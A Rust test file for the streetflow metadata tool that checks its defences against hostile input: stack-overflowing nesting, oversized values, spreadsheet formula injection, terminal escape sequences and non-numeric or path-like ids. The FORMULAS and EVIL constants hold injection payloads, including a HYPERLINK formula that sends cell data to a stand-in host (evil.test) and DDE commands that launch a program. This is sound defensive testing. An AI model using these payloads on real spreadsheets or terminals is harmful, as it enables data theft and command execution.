//! Malicious input: sizes, nesting, formulas, terminal control characters.

use std::fs;
use std::path::Path;
use std::process::Command;

use futures::StreamExt;
use streetflow::sources::tile_layers;
use streetflow::{
    CsvSource, Error, ErrorKind, Fields, Format, GeoJsonSource, Metadata, Record, Result, SequenceId, Source,
    TileId,
};
use streetflow_sandbox::{Fault, Host, Rule, Sandbox};

use crate::support::tables::{all, read, write};
use crate::support::{builder, command, command_on, image_record, metadata_record, output};

const MIB: usize = 1 << 20;

fn with<'a>(mut command: Command, args: impl IntoIterator<Item = &'a str>) -> Command {
    command.args(args);
    command
}

/// Returns enough brackets to overflow the stack of a recursive parser.
fn deep(open: &str, close: &str) -> String {
    open.repeat(100_000) + &close.repeat(100_000)
}

#[tokio::test]
async fn deeply_nested_responses_do_not_crash_the_program() {
    let sandbox = Sandbox::start().await.unwrap();
    let client = builder(&sandbox).max_attempts(1).build().unwrap();
    let (lists, maps) = (deep("[", "]"), deep("{\"a\":", "}").replace(":}", ":1}"));
    let sequence = SequenceId::new("abc").unwrap();
    for deep in [&lists, &maps] {
        let broken = [
            deep.clone(),
            format!(r#"{{"id":"1","computed_rotation":{deep}}}"#),
            format!(r#"{{"id":"1","creator":{deep}}}"#),
            format!(r#"{{"id":"1","detections":{{"data":[{deep}]}}}}"#),
            format!(r#"{{"error":{deep}}}"#),
            format!(r#"{{"data":{deep}}}"#),
            format!(r#"{{"data":[{{"id":{deep}}}]}}"#),
        ];
        for body in broken {
            sandbox.clear_rules();
            sandbox.add_rule(Rule::on(Host::Graph).fault(Fault::status(200, &body)));
            let begin = &body[..40];
            let is_reported =
                |error: &Error| matches!(error.kind(), ErrorKind::Malformed | ErrorKind::Rejected);
            match client.image(&image_record("1"), &Fields::default()).await {
                Ok(record) => assert!(record.computed_rotation.is_none() && record.creator_id.is_none()),
                Err(error) => assert!(is_reported(&error), "{begin}: {error:?}"),
            }
            match client.images(&[image_record("1"), image_record("2")], &Fields::default()).await {
                Ok(found) => assert_eq!(found, [None, None], "{begin}"),
                Err(error) => assert!(is_reported(&error), "{begin}: {error:?}"),
            }
            let error = client.image_ids(&sequence).await.unwrap_err();
            assert!(is_reported(&error), "{begin}: {error:?}");
        }
        // Skipped values can be nested to any depth.
        sandbox.clear_rules();
        let body = format!(r#"{{"id":"1","unknown":{deep},"width":7}}"#);
        sandbox.add_rule(Rule::on(Host::Graph).fault(Fault::status(200, &body)));
        assert_eq!(client.image(&image_record("1"), &Fields::default()).await.unwrap().width, Some(7));
        sandbox.add_rule(Rule::on(Host::Tiles).fault(Fault::status(200, deep)));
        if let Ok(bytes) = client.tile(TileId { z: 14, x: 1, y: 1 }).await {
            assert!(tile_layers(&bytes).is_err());
        }
    }
}

async fn rows<T: Record>(source: Result<impl Source<Item = T>>) -> Vec<Result<T>> {
    match source {
        Ok(source) => source.stream().collect().await,
        Err(error) => vec![Err(error)],
    }
}

fn lines(text: String) -> Result<GeoJsonSource<Metadata>> {
    GeoJsonSource::lines("a text", std::io::Cursor::new(text))
}

fn csv(text: String) -> Result<CsvSource<Metadata>> {
    CsvSource::new("a table", std::io::Cursor::new(text))
}

#[tokio::test]
async fn deeply_nested_tables_do_not_crash_the_program() {
    for deep in [deep("[", "]"), deep("{\"a\":", "}").replace(":}", ":1}")] {
        let quoted = deep.replace('"', "\"\"");
        for column in ["camera_parameters", "detections", "width", "make"] {
            let found = rows(csv(format!("img_id,{column}\n1,\n2,\"{quoted}\"\n3,\n"))).await;
            assert_eq!(found.len(), 3);
            assert_eq!(found[1].is_ok(), column == "make" && deep.len() < MIB, "{column}");
        }
        let good = r#"{"type":"Feature","id":"1","geometry":null,"properties":{"width":1}}"#;
        for (feature, reads) in [
            (
                format!(r#"{{"type":"Feature","id":"2","geometry":null,"properties":{{"make":{deep}}}}}"#),
                false,
            ),
            (format!(r#"{{"type":"Feature","id":"2","geometry":null,"properties":{deep}}}"#), false),
            (
                format!(
                    r#"{{"type":"Feature","id":"2","properties":{{}},"geometry":{{"type":"Point","coordinates":{deep}}}}}"#
                ),
                false,
            ),
            (format!(r#"{{"type":"Feature","id":{deep},"geometry":null,"properties":{{}}}}"#), false),
            // Values that are not requested are skipped.
            (
                format!(r#"{{"type":"Feature","id":"2","geometry":null,"properties":{{}},"more":{deep}}}"#),
                true,
            ),
        ] {
            let found = rows(lines([good, &feature, good].join("\n"))).await;
            assert_eq!(found.len(), 3);
            assert!(found[0].is_ok() && found[2].is_ok());
            assert_eq!(found[1].is_ok(), reads, "{}", &feature[..60]);
            let whole = format!(r#"{{"type":"FeatureCollection","x":{deep},"features":[{good},{feature}]}}"#);
            let source = GeoJsonSource::<Metadata>::new("a text", std::io::Cursor::new(whole));
            assert_eq!(rows(source).await.last().unwrap().is_ok(), reads);
        }
    }
}

#[tokio::test]
async fn a_value_longer_than_1_mib_is_an_error_with_file_and_row() {
    let (fits, long) = ("x".repeat(MIB), "x".repeat(MIB + 1));
    let error_text = |item: &Result<Metadata>| item.as_ref().unwrap_err().chain();
    let found = rows(csv(format!("img_id,make,other\n1,{fits},\n2,{long},\n3,,{long}\n4,a,\n"))).await;
    assert_eq!(found[0].as_ref().unwrap().make.as_deref(), Some(&*fits));
    assert_eq!(
        error_text(&found[1]),
        "failed to read the table `a table`: line 3, column `make`: it is longer than 1 MiB"
    );
    assert!(error_text(&found[2]).contains("line 4, column `other`"), "{}", error_text(&found[2]));
    assert!(found[3].is_ok(), "the next row is read");
    let error = rows(csv(format!("img_id,{long}\n1,\n"))).await.pop().unwrap().unwrap_err();
    assert!(error.chain().contains("header is longer"), "{}", error.chain());
    let error = rows(csv(format!("img_id{}\n", ",a".repeat(10_000)))).await.pop().unwrap().unwrap_err();
    assert!(error.chain().contains("header is longer"), "{}", error.chain());

    let feature = |id: &str, make: &str| {
        format!(r#"{{"type":"Feature","id":"{id}","geometry":null,"properties":{{"make":"{make}"}}}}"#)
    };
    let found = rows(lines([feature("1", &fits), feature("2", &long)].join("\n"))).await;
    assert!(found[0].is_ok());
    assert!(error_text(&found[1]).contains("feature 2, column `make`"), "{}", error_text(&found[1]));
    assert!(error_text(&found[1]).len() < 300, "only the start of the value is shown");
    let values = vec!["0"; MIB].join(",");
    let many = format!(r#"{{"type":"Feature","id":"2","geometry":null,"properties":{{"a":[{values}]}}}}"#);
    let found = rows(lines([feature("1", ""), many].join("\n"))).await;
    assert!(error_text(&found[1]).contains("more than 1,000,000 values"), "{}", error_text(&found[1]));

    #[cfg(feature = "parquet")]
    {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("table.parquet");
        let records = [(1, fits), (2, long)].map(|(id, make)| {
            let mut record = metadata_record(&id.to_string());
            record.make = Some(make);
            record
        });
        write(&path, Format::Parquet, &all(), &records);
        let found = rows(streetflow::ParquetSource::<Metadata>::open(&path)).await;
        assert!(
            found[0].is_ok() && error_text(&found[1]).contains("row 2, column `make`"),
            "{}",
            error_text(&found[1])
        );
    }
}

/// Asserts that no cell of a CSV file is a formula for a spreadsheet.
fn has_no_formula(csv: &[u8]) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv);
    for row in reader.byte_records() {
        for cell in &row.unwrap() {
            let risky = cell.first().is_some_and(|first| b"=+@\t\r\n".contains(first));
            // Numbers and ids can start with a minus sign.
            let text = String::from_utf8_lossy(cell);
            let minus = cell.first() == Some(&b'-')
                && text.parse::<f64>().is_err()
                && text.contains(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'));
            assert!(!risky && !minus, "{text}");
        }
    }
}

const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"https://evil.test/?\"&A1,\"see\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=1+1",
    "''-(1)",
];

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_looks_like_a_formula_is_text_in_every_format() {
    for formula in FORMULAS {
        let sandbox = Sandbox::start().await.unwrap();
        let folder = tempfile::tempdir().unwrap();
        let body = serde_json::json!({
            "id": "1", "creator": {"id": "5", "username": formula}, "make": formula, "altitude": -1.5,
            "computed_rotation": [-1.5], "sequence": "-qe-JIXxphhaeodoDQNWvM",
        });
        sandbox.add_rule(Rule::on(Host::Graph).fault(Fault::status(200, &body.to_string())));
        fs::write(folder.path().join("in.csv"), "seq_id,img_id\n-qe-JIXxphhaeodoDQNWvM,1\n").unwrap();
        let run = |args: &'static str| output(with(command_on(&sandbox, folder.path()), args.split(' ')));
        let fields = "metadata -i in.csv --fields=sequence,creator,make,altitude,computed_rotation";
        let (exit, stderr) = run(fields).await;
        assert_eq!(exit, 0, "{stderr}");
        let table = folder.path().join("outputs/img_meta_dataset.csv");
        let bytes = fs::read(&table).unwrap();
        has_no_formula(&bytes);
        let text = String::from_utf8(bytes).unwrap();
        assert!(
            text.contains("\n-qe-JIXxphhaeodoDQNWvM,1,-qe-JIXxphhaeodoDQNWvM,5,"),
            "ids are unchanged: {text}"
        );
        for to in ["a.geojson", "b.csv"] {
            let from = if to == "a.geojson" { "outputs/img_meta_dataset.csv" } else { "a.geojson" };
            let command = with(command(folder.path()), ["convert", from, to]);
            let (exit, stderr) = output(command).await;
            assert_eq!(exit, 0, "{stderr}");
        }
        let records: Vec<Metadata> = read(&folder.path().join("a.geojson"), Format::GeoJson);
        assert_eq!(records[0].creator_username.as_deref(), Some(formula));
        let geojson: serde_json::Value =
            serde_json::from_slice(&fs::read(folder.path().join("a.geojson")).unwrap()).unwrap();
        assert_eq!(geojson["features"][0]["properties"]["creator_username"], formula, "only CSV is changed");
        has_no_formula(&fs::read(folder.path().join("b.csv")).unwrap());
        assert_eq!(read::<Metadata>(&folder.path().join("b.csv"), Format::Csv), records);
    }
}

#[test]
fn any_text_is_no_formula_in_csv_and_round_trips() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("table.csv");
    let records: Vec<_> = FORMULAS
        .iter()
        .enumerate()
        .map(|(id, formula)| {
            let mut record = metadata_record(&id.to_string());
            record.camera_type = Some((*formula).to_owned());
            record.thumb_256_url = Some((*formula).to_owned());
            record.detections = Some(vec![(*formula).to_owned()]);
            record
        })
        .collect();
    write(&path, Format::Csv, &all(), &records);
    has_no_formula(&fs::read(&path).unwrap());
    assert_eq!(read::<Metadata>(&path, Format::Csv), records);
}

/// Asserts that a text has no characters that control a terminal, reverse text or hide it.
fn is_plain(stderr: &str) {
    let odd = stderr.chars().find(|c| {
        c.is_control() && *c != '\n'
            || ('\u{200b}'..='\u{200f}').contains(c)
            || ('\u{202a}'..='\u{202e}').contains(c)
    });
    assert_eq!(odd, None, "{stderr:?}");
}

const EVIL: &str = "a\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}gpj\u{200b}\u{9b}31m";

#[tokio::test(flavor = "multi_thread")]
async fn texts_from_network_and_files_cannot_control_the_terminal() {
    let sandbox = Sandbox::start().await.unwrap();
    let folder = tempfile::tempdir().unwrap();
    let name = format!("in{EVIL}.csv");
    let long = "9".repeat(10_000);
    let write = |name: &str, text: String| fs::write(folder.path().join(name), text).unwrap();
    let feature = |properties: &str| {
        format!("{{\"type\":\"Feature\",\"id\":\"1\",\"geometry\":null,\"properties\":{properties}}}\n")
    };
    write(&name, format!("seq_id,img_id,{EVIL}\nabc,{EVIL},x\n"));
    write("header.csv", format!("{EVIL},{long}\n1,2\n"));
    write("row.csv", format!("img_id,width\n1,2\n2,{EVIL}\n{long},3\n"));
    write("extra.csv", format!("img_id,{EVIL}\n1,2\n"));
    write("a.geojsonl", feature(&format!("{{\"width\":{}}}", serde_json::json!(EVIL))));
    write("b.geojsonl", format!("{}{}", feature("{}"), EVIL));
    write("c.geojson", format!("{{\"crs\":\"{EVIL}\",\"features\":[]}}"));
    write("good.csv", "seq_id,img_id\nabc,1\n".to_owned());
    let run = |args: Vec<String>| {
        output(with(command_on(&sandbox, folder.path()), args.iter().map(String::as_str)))
    };
    let words = |text: &str| text.split(' ').map(str::to_owned).collect::<Vec<_>>();
    for args in [
        vec!["images".into(), "-i".into(), name.clone()],
        vec!["convert".into(), name.clone(), "x.csv".into()],
        vec!["convert".into(), format!("no{EVIL}.csv"), "x.csv".into()],
        vec!["convert".into(), "good.csv".into(), format!("out{EVIL}.csv")],
        vec!["images".into(), "-i".into(), "good.csv".into(), "-o".into(), format!("out{EVIL}")],
        words("images -i header.csv"),
        words("convert row.csv x.csv"),
        words("convert extra.csv x.csv"),
        words("convert a.geojsonl x.csv"),
        words("convert b.geojsonl x.csv"),
        words("convert c.geojson x.csv"),
    ] {
        let (_, stderr) = run(args.clone()).await;
        is_plain(&stderr);
        assert!(stderr.len() < 5000, "{args:?}: {stderr}");
    }
    let message = serde_json::json!({"error": {"message": format!("{EVIL}{long}"), "code": 1}}).to_string();
    for body in [message, EVIL.to_owned(), format!("{{\"error\":{}}}", serde_json::json!(EVIL))] {
        for status in [200, 400, 500] {
            sandbox.clear_rules();
            sandbox.add_rule(Rule::on(Host::Graph).fault(Fault::status(status, &body)));
            let (exit, stderr) = run(words("metadata -i good.csv -v --attempts=2")).await;
            assert_eq!(exit, 1, "{stderr}");
            is_plain(&stderr);
        }
    }
}

#[test]
fn ids_that_are_not_numbers_are_rejected_in_every_input() {
    let folder = tempfile::tempdir().unwrap();
    let long = "1".repeat(33);
    for bad in ["CON", "..", "1a", "A", "1/2", "1%2F2", "１２", &long] {
        for (name, text) in [
            ("t.csv", format!("seq_id,img_id\nabc,1\nabc,{bad}\n")),
            ("t.geojsonl", {
                let feature = |id: &str| {
                    format!(
                        "{{\"type\":\"Feature\",\"id\":\"{id}\",\"geometry\":null,\"properties\":{{}}}}\n"
                    )
                };
                feature("1") + &feature(bad)
            }),
        ] {
            let path = folder.path().join(name);
            fs::write(&path, text).unwrap();
            let source = streetflow::TableSource::<Metadata>::open(Path::new(&path)).unwrap();
            let found: Vec<_> = futures::executor::block_on(source.stream().collect());
            let error = found[1].as_ref().unwrap_err().chain();
            assert!(error.contains("digits"), "{bad}: {error}");
        }
        let owners = format!("org_id,seq_id\n1,abc\n{bad},abc\n");
        let source = CsvSource::<streetflow::Sequence>::new("owners", std::io::Cursor::new(owners)).unwrap();
        let found: Vec<_> = futures::executor::block_on(source.stream().collect());
        assert!(found[1].as_ref().unwrap_err().chain().contains("column `org_id`"), "{bad}");
    }
}

#[tokio::test]
async fn ids_that_are_not_numbers_are_rejected_in_responses() {
    let sandbox = Sandbox::start().await.unwrap();
    let client = builder(&sandbox).max_attempts(1).build().unwrap();
    for bad in ["CON", "../1", "a", "1_2"] {
        sandbox.clear_rules();
        let body = format!(r#"{{"data":[{{"id":"1"}},{{"id":"{bad}"}}]}}"#);
        sandbox.add_rule(Rule::on(Host::Graph).path("/image_ids").fault(Fault::status(200, &body)));
        let ids = client.image_ids(&SequenceId::new("abc").unwrap()).await.unwrap();
        assert_eq!(ids.iter().map(ToString::to_string).collect::<Vec<_>>(), ["1"], "{bad}");
        let body = format!(r#"{{"data":[{{"id":"{bad}"}}]}}"#);
        sandbox.clear_rules();
        sandbox.add_rule(Rule::on(Host::Graph).path("/image_ids").fault(Fault::status(200, &body)));
        let error = client.image_ids(&SequenceId::new("abc").unwrap()).await.unwrap_err();
        assert!(error.kind() == ErrorKind::Malformed && error.chain().contains("digits"), "{error:?}");
        let body = serde_json::json!({
            "id": "1", "sequence": "a/b", "creator": {"id": bad, "username": "x"}, "organization": {"id": bad},
            "mesh": {"id": bad}, "detections": {"data": [{"id": bad}, {"id": "7"}]},
        });
        sandbox.add_rule(Rule::on(Host::Graph).fault(Fault::status(200, &body.to_string())));
        let record = client.image(&image_record("1"), &Fields::default()).await.unwrap();
        assert_eq!((record.creator_id, record.organization_id, record.mesh_id), (None, None, None));
        assert_eq!((record.sequence, record.detections), (None, Some(vec!["7".to_owned()])));
        assert_eq!(record.creator_username.as_deref(), Some("x"));
    }
}
